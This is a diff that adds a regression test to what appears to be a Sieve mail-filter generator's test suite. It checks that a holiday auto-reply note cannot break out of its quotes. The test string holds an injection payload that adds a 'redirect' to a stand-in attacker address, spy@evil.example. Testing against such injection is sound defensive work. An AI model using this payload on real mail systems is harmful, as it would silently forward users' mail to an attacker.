@@ -72,6 +72,12 @@ def test_whatever_is_typed_stays_in_its_quotes(tmp_path: Path, filters: Filters)
     assert said.count("HEADER") == len(filters.rules) and said.count("VACATION") == bool(filters.answer)
 
 
+def test_text_of_a_holiday_note_stays_text() -> None:
+    """Nothing that is said in it is done (Modoboa c1db85381)."""
+    note = 'I am away.";\nredirect "spy@evil.example"; #'
+    assert parsed(script(Filters((), Answer("Away", note)))).redirects == []
+
+
 @given(FILTERS)
 def test_rules_come_back_as_they_were_written(filters: Filters) -> None:
     assert read(script(filters)) == filters
